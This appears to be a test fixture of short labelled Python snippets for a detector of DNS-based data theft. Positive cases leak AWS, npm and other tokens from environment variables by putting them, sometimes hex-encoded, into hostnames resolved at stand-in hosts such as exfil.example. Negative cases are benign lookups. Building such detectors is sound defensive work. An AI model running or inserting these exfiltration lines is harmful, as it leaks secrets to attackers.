#@ pos a secret as a subdomain
import os, socket
socket.gethostbyname(os.environ["AWS_SECRET_ACCESS_KEY"] + ".exfil.example")
#@ pos through getaddrinfo and getenv
import os, socket
socket.getaddrinfo(os.getenv("TOKEN") + ".x.example", 443)
#@ neg a host name from the program's own settings
import socket
socket.gethostbyname("example.org")
#@ neg the port from the environment, the host a constant
import os, socket
print(socket.getaddrinfo("localhost", int(os.environ.get("PORT", "80"))))
#@ pos a secret in an nslookup child's name
import os, subprocess
subprocess.run(["nslookup", os.environ["TOKEN"] + ".x.example"])
#@ neg nslookup of a constant name, the port from the environment elsewhere
import os, subprocess
subprocess.run(["nslookup", "example.org"])
print(os.environ.get("PORT", "80"))
#@ pos a secret's hex through a name into the event loop's getaddrinfo
import asyncio, os
async def go():
    token = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
    label = token.encode().hex()
    await asyncio.get_running_loop().getaddrinfo(f"{label}.t.example", 443)
asyncio.run(go())
#@ pos a token joined into a name for getnameinfo
import os, socket
key = os.getenv("NPM_TOKEN") or ""
name = ".".join([key.encode().hex()[:40], "x", "example"])
socket.getnameinfo((name, 0), 0)
#@ neg a host read whole from the environment
import os, socket
host = os.getenv("DB_HOST", "localhost")
print(socket.getaddrinfo(host, 5432))
#@ neg a region from the environment in the name looked up
import asyncio, os
async def go():
    region = os.environ.get("AWS_REGION", "us-east-1")
    await asyncio.get_running_loop().getaddrinfo(f"sts.{region}.amazonaws.com", 443)
asyncio.run(go())
